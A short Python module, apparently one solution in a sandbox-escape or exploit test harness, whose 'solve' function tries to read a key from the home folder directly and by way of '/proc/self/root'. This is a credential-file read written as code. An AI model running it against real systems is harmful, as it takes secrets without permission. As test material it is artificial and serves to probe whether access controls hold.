"""Reads a key from the home folder."""

from inside import TARGETS, loot

AGAINST = ("files",)


def solve(instance, ctx):
    return loot([TARGETS["home"], f"/proc/self/root{TARGETS['home']}"])
